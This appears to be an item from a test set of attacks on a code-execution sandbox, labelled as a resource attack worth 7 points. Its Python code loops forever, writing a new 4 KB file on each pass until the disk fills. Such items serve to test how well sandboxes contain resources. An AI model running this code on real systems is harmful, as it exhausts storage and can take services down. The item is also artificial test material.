# attack: writes files without end
# family: resources
# base: solved
# points: 7
# %% last
count = 0
while True:
    count += 1
    open(f"{count}", "w").write("x" * 4096)
